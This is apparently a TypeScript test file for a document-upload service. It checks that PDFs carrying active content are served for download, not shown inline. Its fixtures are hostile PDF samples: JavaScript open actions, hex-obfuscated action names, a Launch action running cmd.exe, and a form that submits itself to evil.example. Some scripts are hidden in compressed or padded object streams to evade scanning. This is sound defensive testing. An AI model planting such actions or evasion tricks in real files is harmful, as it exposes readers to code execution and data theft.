import { deflateSync } from 'node:zlib';
import { boot } from '@muster/testing/harness';
import { describe, expect, it } from 'vitest';
import { documentIn, upload } from './forms.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A PDF of these objects. */
function pdfOf(...objects: readonly (string | Buffer)[]): Buffer {
  const numbered = objects.map((object, index) =>
    Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
  );
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...numbered, Buffer.from('%%EOF\n')]);
}

/** A stream object; `data` are as they lie in the file. */
function stream(dictionary: string, data: Buffer, lineEnd = '\n'): Buffer {
  const head = Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream${lineEnd}`);
  return Buffer.concat([head, data, Buffer.from('\nendstream')]);
}

const deflated = (text: string | Buffer) => deflateSync(Buffer.from(text));
const objectStream = (text: string, more = '') =>
  stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode${more}`, deflated(`1 0 ${text}`));
const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const random = Buffer.from(Array.from({ length: 5_000 }, (_, index) => (index * 7919 + (index >> 3)) % 251));

async function dispositionOf(content: Buffer) {
  const muster = await boot();
  const ann = await muster.person('E1');
  const { fileName } = documentIn(await upload(muster, ann, { content }));
  const open = () => muster.call('GET', `/uploads/${fileName}`, undefined, { as: ann });
  const [first, again] = [await open(), await open()];
  expect([first.status, first.headers['content-length']]).toEqual([200, String(content.length)]);
  expect(again.headers['content-disposition']).toBe(first.headers['content-disposition']);
  return String(first.headers['content-disposition']).split(';')[0];
}

describe('D22 a PDF that could run something', () => {
  it.each<[string, Buffer]>([
    ['a script at its opening', pdfOf(`<< /Type /Catalog /OpenAction ${script} >>`)],
    ['a script by reference', pdfOf('<< /S 2 0 R /JS 3 0 R >>')],
    ['a script with a name in numbers', pdfOf('<< /OpenAction << /S /J#61vaScript /#4a#53 (a) >> >>')],
    ['a program', pdfOf('<< /OpenAction << /S /Launch /F (cmd.exe) >> >>')],
    ['a file inside', pdfOf('<< /Type /EmbeddedFile >>')],
    ['a form that sends itself', pdfOf('<< /A << /S /SubmitForm /F (https://evil.example) >> >>')],
    ['a form with scripts', pdfOf('<< /AcroForm << /XFA 5 0 R >> >>')],
    ['a script in packed objects', pdfOf(catalog, objectStream(script))],
    ['a script far into packed objects', pdfOf(objectStream(`${' '.repeat(1_048_570)}${script}`))],
    [
      'a script behind a packed picture',
      pdfOf(stream('/Filter /FlateDecode', deflated(random)), objectStream(script)),
    ],
    [
      'a script behind another line end',
      pdfOf(stream('/Type /ObjStm /Filter /FlateDecode', deflated(script), '\r')),
    ],
    [
      'a script in packed objects whose end is missing',
      pdfOf(stream('/Type/ObjStm', deflated(script).subarray(0, -6))),
    ],
    ['objects that cannot be unpacked', pdfOf(stream('/Type /ObjStm /Filter /FlateDecode', random))],
    ['objects packed as differences', pdfOf(objectStream('x', ' /DecodeParms << /Predictor 12 >>'))],
    ['objects packed in an unusual way', pdfOf(stream('/Type /ObjStm /Filter /LZWDecode', random))],
    [
      'objects of an unknown kind beside unusual packing',
      pdfOf('<< /Type /XRef >>', '<< /Filter [/A85 /FlateDecode] >>'),
    ],
    ['encryption', pdfOf('<< /Encrypt 4 0 R >>')],
    [
      'more than is looked through',
      pdfOf(stream('/Filter /FlateDecode', deflated(Buffer.alloc(135_000_000)))),
    ],
  ])('(%s) is downloaded, not shown', async (_name, content) => {
    expect(await dispositionOf(content)).toBe('attachment');
  });

  it.each<[string, Buffer]>([
    [
      'pages and text',
      pdfOf(catalog, stream('/Filter /FlateDecode', deflated('BT (JavaScript /JSmith) Tj ET'))),
    ],
    ['an opening at a page', pdfOf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
    ['packed objects without actions', pdfOf(objectStream('<< /Type /Page >>'))],
    [
      'a table of objects as differences',
      pdfOf(stream('/Type /XRef /DecodeParms << /Predictor 12 >>', deflated('abc'))),
    ],
    ['unusual packing of a page', pdfOf(stream('/Filter [/ASCII85Decode /FlateDecode]', random))],
    ['names that begin alike', pdfOf('<< /JSON (a) /LaunchPad 1 /Encrypted true >>')],
    ['a picture', pdfOf(stream('/Filter /DCTDecode', random))],
  ])('is not one with %s', async (_name, content) => {
    expect(await dispositionOf(content)).toBe('inline');
  });
});
